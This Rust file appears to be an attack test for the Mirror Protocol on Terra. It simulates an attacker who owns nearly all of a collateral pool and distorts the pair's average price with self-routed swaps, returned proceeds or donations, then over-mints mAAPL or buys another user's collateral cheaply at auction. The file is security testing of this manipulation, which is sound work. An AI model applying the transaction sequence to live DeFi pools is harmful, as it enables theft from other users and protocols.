//! An average price of a pair that counts reserves it did not have.

use cosmwasm_std::Uint128;
use mirror_testing::{percent, World};
use terraswap::asset::Asset;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, MILLION};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "false average price",
    story:
        "Who had a pair pay its own swaps, or gave the return back, made it note a reserve that \
            it did not have: at a real price of 1 the average said 2.238 or 0.447 ten minutes \
            later, and collateral by that price minted too much or was sold for less than half.",
    run,
};

/// Both sides of the collateral's pool. The attacker owns almost all of it, so that he keeps what
/// he gives to it.
const POOL: u128 = MILLION;
/// The first swap: half the pool. The second one makes both reserves equal.
const FIRST: u128 = POOL / 2;
/// The collateral of bob's position, at a ratio of 2.5.
const OF_BOB: u128 = MILLION / 2;
/// The seconds over which the price is averaged.
const WINDOW: u64 = 600;
/// The cap of the collateral.
const CAP: u128 = 10 * MILLION;

/// How the return comes back to the pair.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Way {
    /// The pair is the receiver of the swap.
    ToThePair,
    /// The attacker gives it back in the same transaction.
    GivenBack,
    /// The attacker gives it back a block later.
    ABlockLater,
    /// There is no swap, but a gift in the block in which the price is used.
    JustBefore,
}

/// All of them.
const WAYS: [Way; 4] = [
    Way::ToThePair,
    Way::GivenBack,
    Way::ABlockLater,
    Way::JustBefore,
];

/// In which direction the price has to move.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Aim {
    /// Up, to mint against it.
    Mint,
    /// Down, to buy bob's collateral.
    Auction,
}

fn run() -> anyhow::Result<Findings> {
    let best = |aim: Aim, tried: &str| {
        let ways = WAYS.iter().map(|way| attempt(aim, *way));
        let ways: Vec<Attempt> = ways.collect::<anyhow::Result<_>>()?;
        Attempt::best(ways, tried)
    };
    Ok(Findings {
        attempts: vec![
            best(
                Aim::Mint,
                "owned 99 % of a collateral's pool, swapped half of it in and back with the pair \
                 as the receiver, or gave the return back at once, a block later or just before, \
                 and ten minutes later minted against the price that came out",
            )?,
            best(
                Aim::Auction,
                "the same the other way round, to buy the collateral of somebody at a ratio of 2.5",
            )?,
        ],
        exposures: vec![],
    })
}

fn attempt(aim: Aim, way: Way) -> anyhow::Result<Attempt> {
    let mut trial = prepared()?;
    let idx = bob_opens(&mut trial)?;
    trial.measures("bob")?;

    if way != Way::JustBefore {
        moves(&mut trial, aim, way)?;
    }
    trial.world.chain.pass(WINDOW);
    trial.world.feeds(&[("mAAPL", "10")]);
    if way == Way::JustBefore {
        gives(&mut trial, aim)?;
    }
    match aim {
        Aim::Mint => {
            let collateral = gems(&trial, MILLION / 2);
            fixtures::mints_and_sells(&mut trial, "T-45", collateral, "mAAPL")?;
        }
        Aim::Auction => buys(&mut trial, idx)?,
    }
    trial.ends(String::new())
}

/// A pool of mAAPL with others' coins, and a collateral with a pool of its own.
fn prepared() -> anyhow::Result<Trial> {
    let mut world = World::new().with_asset("mAAPL", "10");
    fixtures::pool(&mut world, "mAAPL", 4 * MILLION);
    world
        .actor("attacker")
        .opens(4 * MILLION, "mAAPL", percent(200));
    let holders = [("attacker", 4 * MILLION), ("bob", MILLION)];
    fixtures::new_token(&mut world, "GEM", &holders)?;
    let most = POOL * 99 / 100;
    fixtures::new_pool(&mut world, "GEM", "attacker", most, most)?;
    world
        .bob()
        .tries_to_provide("GEM", POOL - most, POOL - most)?;
    world.chain.pass(WINDOW);
    world.feeds(&[("mAAPL", "10")]);
    let source = fixtures::average_price(&world, "GEM");
    fixtures::registers_collateral(&mut world, "GEM", source, CAP)?;
    let prices = [
        ("mAAPL", fixtures::price("10")?),
        ("GEM", fixtures::price("1")?),
    ];
    Trial::new(world, &prices)
}

fn bob_opens(trial: &mut Trial) -> anyhow::Result<Uint128> {
    let answer = trial
        .world
        .bob()
        .tries_to_open_against(OF_BOB, "GEM", "mAAPL", percent(250))?;
    Ok(mirror_testing::number(&answer))
}

/// Two swaps; the return of the second comes back to the pair, so that both reserves are half as
/// large again. The attack succeeds if the pair has noted a wrong reserve for one of them.
fn moves(trial: &mut Trial, aim: Aim, way: Way) -> anyhow::Result<()> {
    let gem = trial.world.asset("GEM");
    let [first, second]: [fn(&Trial, u128) -> Asset; 2] = match aim {
        Aim::Mint => [gems, coins],
        Aim::Auction => [coins, gems],
    };
    let offer = first(trial, FIRST);
    let taken = fixtures::simulated(&trial.world, &gem.pair, &offer)?;
    trial.does(Transaction::new().swaps(&gem.pair, offer))?;

    let offer = second(trial, FIRST + taken.u128());
    let returned = fixtures::simulated(&trial.world, &gem.pair, &offer)?;
    let back = first(trial, returned.u128());
    if way == Way::ToThePair {
        let transaction = Transaction::new().swaps_to(&gem.pair, offer, &gem.pair);
        trial.tries("T-45", transaction)?;
        return Ok(());
    }
    let transaction = Transaction::new().swaps(&gem.pair, offer);
    if way == Way::GivenBack {
        trial.does(transaction.gives(back, &gem.pair))?;
    } else {
        trial.does(transaction)?;
        fixtures::next_block(&mut trial.world, &[("mAAPL", "10")]);
        trial.does(Transaction::new().gives(back, &gem.pair))?;
    }
    Ok(())
}

/// A gift that makes the reserves look as if the price had moved.
fn gives(trial: &mut Trial, aim: Aim) -> anyhow::Result<()> {
    let gift = match aim {
        Aim::Mint => coins(trial, POOL),
        Aim::Auction => gems(trial, POOL),
    };
    let pair = trial.world.asset("GEM").pair;
    trial.does(Transaction::new().gives(gift, &pair))?;
    Ok(())
}

fn gems(trial: &Trial, amount: u128) -> Asset {
    Asset::token(trial.world.token("GEM"), amount)
}

fn coins(_: &Trial, amount: u128) -> Asset {
    base(amount)
}

/// The attacker bids for bob's position with its whole debt.
fn buys(trial: &mut Trial, idx: Uint128) -> anyhow::Result<()> {
    let debt = Asset::token(trial.world.token("mAAPL"), OF_BOB / 25);
    let mint = trial.world.at.mint.clone();
    trial.tries("T-45", Transaction::new().auctions(&mint, idx, debt))?;
    Ok(())
}
